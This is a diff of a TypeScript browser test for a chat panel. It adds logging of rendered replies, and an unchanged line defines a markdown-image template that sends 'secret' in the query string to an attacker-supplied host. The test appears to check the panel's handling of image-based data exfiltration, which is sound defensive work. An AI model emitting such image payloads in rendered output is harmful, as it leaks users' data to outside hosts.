@@ -1,6 +1,7 @@
 import type { Browser } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
 import { launchBrowser } from '../../support/browser.ts';
+import { observe } from '../../support/observation.ts';
 import { openPanel, type Panel } from './open-panel.ts';
 
 let browser: Browser;
@@ -37,7 +38,10 @@ async function say(text: string, pieces = 1) {
   reply.end();
   const exchange = panel.frame.locator('.exchange').nth(count);
   await exchange.locator('.copy').waitFor();
-  return exchange.locator('.said');
+  const said = exchange.locator('.said');
+  const drawn = (await said.textContent()) ?? '';
+  observe('happening', () => `drawn: ${drawn.slice(0, 200)}`);
+  return said;
 }
 
 const IMAGE = (evil: string) => `![secret](${evil}/pixel.png?q=secret)`;
